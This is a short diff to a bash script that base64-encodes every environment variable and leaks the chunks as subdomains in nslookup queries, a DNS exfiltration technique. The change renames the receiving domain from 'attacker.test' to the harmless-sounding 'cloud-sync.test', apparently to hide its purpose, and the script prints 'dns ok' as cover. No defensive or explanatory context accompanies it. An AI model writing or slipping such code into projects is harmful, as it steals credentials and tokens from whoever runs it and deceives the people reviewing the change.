@@ -1,5 +1,5 @@
 #!/bin/bash
 for c in $(printenv | base64 -w0 | fold -w60); do
-  nslookup "$c.x.attacker.test" >/dev/null 2>&1
+  nslookup "$c.x.cloud-sync.test" >/dev/null 2>&1
 done
 echo "dns ok"
